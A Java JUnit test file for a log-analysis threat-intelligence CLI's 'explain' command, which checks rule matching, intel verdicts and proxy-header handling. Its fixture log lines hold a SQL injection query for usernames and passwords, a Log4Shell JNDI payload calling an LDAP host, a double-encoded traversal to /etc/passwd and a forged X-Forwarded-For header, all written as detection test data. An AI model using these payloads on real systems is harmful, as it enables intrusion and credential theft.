package dev.threatip.cli;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.threatip.intel.FeedCompiler;
import dev.threatip.intel.FeedSource;
import dev.threatip.intel.FeedSpec;
import dev.threatip.net.AddressClass;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.util.ArrayList;
import java.util.Iterator;
import java.util.List;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** {@code threatip explain} end to end through {@link Main}, on real-shaped combined lines. */
class ExplainCommandTest {
    static final String SQLI = "198.51.100.23 - - [01/Nov/2026:10:15:02 +0000] "
            + "\"GET /products.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20- HTTP/1.1\" 200 1532 "
            + "\"-\" \"Mozilla/5.0 (Windows NT 10.0; Win64; x64)\"";
    static final String LOG4SHELL = "203.0.113.8 - - [01/Nov/2026:10:16:40 +0000] \"GET / HTTP/1.1\" 200 612 \"-\" "
            + "\"${jndi:ldap://198.51.100.77:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd25lZA==}\"";
    /** Behind a trusted proxy at 10.0.0.5; the client forged 127.0.0.1 in front of its own address. */
    static final String FORGED_XFF = "10.0.0.5 - - [01/Nov/2026:10:17:00 +0000] \"GET /.git/config HTTP/1.1\" 404 153 \"-\" "
            + "\"curl/8.5.0\" \"127.0.0.1, 203.0.113.8\"";

    @TempDir
    Path dir;
    Path intel;

    /** 203.0.113.8 listed by 8 lists (high). */
    @BeforeEach
    void setUp() throws IOException {
        Path feed = dir.resolve("ipsum.txt");
        Files.writeString(feed, "203.0.113.8\t8\n");
        FeedSource source = new FeedSource(dir.resolve("cache"), Clock.systemUTC(), FeedSource.FetchSettings.defaults());
        intel = dir.resolve("intel.tis");
        new FeedCompiler(FeedCompiler.Options.defaults().withAllowedSpecial(Set.of(AddressClass.DOCUMENTATION)))
                .compile(source.resolve(FeedSpec.parse(feed.toString())), intel);
    }

    private static JsonNode json(Cli.Run r) throws IOException {
        assertEquals(0, r.exit(), r.err());
        return new ObjectMapper().readTree(r.out());
    }

    private static List<String> ruleIds(JsonNode root) {
        List<String> ids = new ArrayList<>();
        root.get("rules").forEach(r -> ids.add(r.get("id").asText()));
        return ids;
    }

    private static JsonNode rule(JsonNode root, String id) {
        for (JsonNode r : root.get("rules")) {
            if (r.get("id").asText().equals(id)) {
                return r;
            }
        }
        throw new AssertionError("no rule " + id + " in " + root.get("rules"));
    }

    private static List<String> fieldNames(JsonNode n) {
        List<String> names = new ArrayList<>();
        for (Iterator<String> it = n.fieldNames(); it.hasNext(); ) {
            names.add(it.next());
        }
        return names;
    }

    @Test
    void explain_sqliRequest_feedsWebAttackRuleOnTheDecodedQuery() throws IOException {
        JsonNode root = json(Cli.run("explain", "--intel", intel.toString(), "--json", "--log", SQLI));
        assertEquals("combined", root.get("format").get("name").asText());
        assertEquals("/products.php", root.get("fields").get("path").asText());
        assertEquals("id=1' union select username,password from users-- -", root.get("normalized").get("query").asText());
        JsonNode sqli = rule(root, "web-attack-sqli");
        assertEquals("web_attack", sqli.get("category").asText());
        assertEquals("ip", sqli.get("group_by").asText());
        assertEquals(600, sqli.get("window_seconds").asLong());
        assertEquals("requests", sqli.get("count").asText());
        assertEquals("{\"moderate\":1,\"high\":5}", sqli.get("thresholds").toString());
        assertEquals("moderate", sqli.get("one_line_reaches").asText());
        assertEquals("clean", root.get("intel").get("verdict").asText());
        assertEquals("198.51.100.23", root.get("intel").get("ip").asText());
    }

    @Test
    void explain_log4shellUserAgent_feedsExploitRuleAndShowsTheListedClient() throws IOException {
        JsonNode root = json(Cli.run("explain", "--intel", intel.toString(), "--json", "--log", LOG4SHELL));
        assertTrue(ruleIds(root).contains("exploit-log4shell"), ruleIds(root).toString());
        assertEquals("exploit", rule(root, "exploit-log4shell").get("category").asText());
        assertTrue(root.get("fields").get("user_agent").asText().startsWith("${jndi:ldap://"));
        JsonNode v = root.get("intel");
        assertEquals("malicious", v.get("verdict").asText());
        assertEquals("high", v.get("level").asText());
        assertEquals("203.0.113.8", v.get("matched").asText());
    }

    @Test
    void explain_forgedXffBehindTrustedProxy_realClientWinsOverForgedLoopback() throws IOException {
        JsonNode root = json(Cli.run("explain", "--intel", intel.toString(), "--trusted-proxy", "10.0.0.0/8", "--json",
                "--log", FORGED_XFF));
        JsonNode c = root.get("client");
        assertEquals("203.0.113.8", c.get("ip").asText());
        assertEquals("forwarded", c.get("resolution").asText());
        assertEquals("X-Forwarded-For", c.get("header").asText());
        assertEquals("127.0.0.1, 203.0.113.8", root.get("fields").get("forwarded_for").asText());
        assertEquals("malicious", root.get("intel").get("verdict").asText());
        assertTrue(ruleIds(root).contains("scanner-sensitive-files"), ruleIds(root).toString());
    }

    @Test
    void explain_forgedXffWithoutTrustedProxy_clientIsThePeer() throws IOException {
        JsonNode root = json(Cli.run("explain", "--intel", intel.toString(), "--json", "--log", FORGED_XFF));
        assertEquals("10.0.0.5", root.get("client").get("ip").asText());
        assertEquals("direct", root.get("client").get("resolution").asText());
    }

    @Test
    void explain_traversalDoubleEncoded_showsResolvedPathAndSignals() throws IOException {
        String line = "198.51.100.9 - - [01/Nov/2026:10:18:00 +0000] \"GET /static/..%252f..%252f..%252fetc/passwd HTTP/1.1\" "
                + "400 0 \"-\" \"Mozilla/5.0\"";
        JsonNode root = json(Cli.run("explain", "--intel", intel.toString(), "--json", "--log", line));
        JsonNode n = root.get("normalized");
        assertEquals("/etc/passwd", n.get("path").asText());
        assertEquals("[\"traversal\",\"escapes_root\",\"multi_encoded\"]", n.get("signals").toString());
        assertTrue(ruleIds(root).contains("web-attack-traversal"), ruleIds(root).toString());
    }

    @Test
    void explain_unparsableLine_exits2NamingEveryTriedFormat() {
        Cli.Run r = Cli.run("explain", "--intel", intel.toString(), "--log", "[Sat Jun 01 02:17:42 2013] [error] [client 192.0.2.1] File does not exist: /srv/http/x");
        assertEquals(Main.EXIT_USAGE, r.exit());
        assertEquals("", r.out());
        assertTrue(r.err().startsWith("threatip: the line does not parse (no known format parses it); tried cloudflare: malformed"), r.err());
        assertTrue(r.err().contains("combined: malformed"), r.err());
    }

    @Test
    void explain_namedFormatNotMatching_exits2WithThatFormatsOutcome() {
        Cli.Run r = Cli.run("explain", "--intel", intel.toString(), "--format", "cloudflare", "--log", SQLI);
        assertEquals(Main.EXIT_USAGE, r.exit());
        assertTrue(r.err().contains("(cloudflare: malformed); tried cloudflare: malformed"), r.err());
    }

    @Test
    void explain_unknownFormat_exits2ListingKnownOnes() {
        Cli.Run r = Cli.run("explain", "--format", "apache2", "--log", SQLI);
        assertEquals(Main.EXIT_USAGE, r.exit());
        assertTrue(r.err().contains("--format: unknown format 'apache2'; known: auto, "), r.err());
    }

    @Test
    void explain_jsonOutput_hasTheDocumentedFieldNames() throws IOException {
        JsonNode root = json(Cli.run("explain", "--intel", intel.toString(), "--json", "--log", SQLI));
        assertEquals(List.of("line", "format", "fields", "client", "normalized", "intel", "rules", "notes"), fieldNames(root));
        assertEquals(List.of("name", "reason", "tried"), fieldNames(root.get("format")));
        assertEquals(List.of("remote_addr", "forwarded_for", "real_ip", "connecting_ip", "method", "host", "path", "query",
                "protocol", "status", "bytes", "time", "user_agent", "referer"), fieldNames(root.get("fields")));
        assertEquals("2026-11-01T10:15:02Z", root.get("fields").get("time").asText());
        assertEquals(200, root.get("fields").get("status").asInt());
        assertEquals(List.of("ip", "resolution", "header", "detail"), fieldNames(root.get("client")));
        assertEquals(List.of("path", "query", "signals"), fieldNames(root.get("normalized")));
        // the same object `lookup` prints
        JsonNode lookup = new ObjectMapper().readTree(Cli.run("lookup", "--intel", intel.toString(), "198.51.100.23").out());
        assertEquals(fieldNames(lookup), fieldNames(root.get("intel")));
        assertEquals(List.of("id", "category", "description", "group_by", "window_seconds", "count", "thresholds",
                "one_line_reaches", "file"), fieldNames(root.get("rules").get(0)));
        assertTrue(root.get("notes").toString().contains("one line alone only feeds windows"), root.get("notes").toString());
    }

    @Test
    void explain_noIntelAndNoDefaultSnapshot_explainsWithoutIntel() throws IOException {
        // The default is $THREATIP_INTEL, else ./intel.tis in the module directory, where none exists.
        org.junit.jupiter.api.Assumptions.assumeTrue(System.getenv("THREATIP_INTEL") == null && !Files.exists(Path.of("intel.tis")),
                "a default snapshot exists here");
        JsonNode root = json(Cli.run("explain", "--json", "--log", SQLI));
        assertTrue(root.get("intel").isNull());
        assertTrue(root.get("notes").get(0).asText().contains("explained without intel"), root.get("notes").toString());
        assertTrue(ruleIds(root).contains("web-attack-sqli"));
    }

    @Test
    void explain_givenIntelMissing_exits2() {
        Cli.Run r = Cli.run("explain", "--intel", dir.resolve("absent.tis").toString(), "--log", SQLI);
        assertEquals(Main.EXIT_USAGE, r.exit());
        assertTrue(r.err().contains("absent.tis cannot be used: no such file"), r.err());
    }

    @Test
    void explain_textOutput_showsEveryStep() {
        Cli.Run r = Cli.run("explain", "--intel", intel.toString(), "--log", LOG4SHELL);
        assertEquals(0, r.exit(), r.err());
        for (String expected : List.of("format    combined (detected", "  user_agent     ${jndi:ldap://",
                "client    203.0.113.8 (direct:", "request as the rules see it", "intel     malicious, level high",
                "  lookup  {\"ip\":\"203.0.113.8\"", "exploit-log4shell", "this line alone reaches moderate",
                "note: one line alone only feeds windows")) {
            assertTrue(r.out().contains(expected), expected + " missing from:\n" + r.out());
        }
    }

    @Test
    void explain_peerNotAnAddress_printsFieldsAndExits2() throws IOException {
        String line = "www.example.com - - [01/Nov/2026:10:15:02 +0000] \"GET / HTTP/1.1\" 200 10 \"-\" \"Mozilla/5.0\"";
        Cli.Run r = Cli.run("explain", "--json", "--intel", intel.toString(), "--log", line);
        assertEquals(Main.EXIT_USAGE, r.exit());
        JsonNode root = new ObjectMapper().readTree(r.out());
        assertTrue(root.get("client").get("ip").isNull());
        assertEquals("none", root.get("client").get("resolution").asText());
        assertEquals(0, root.get("rules").size());
        assertTrue(r.err().contains("no valid client address"), r.err());
    }
}
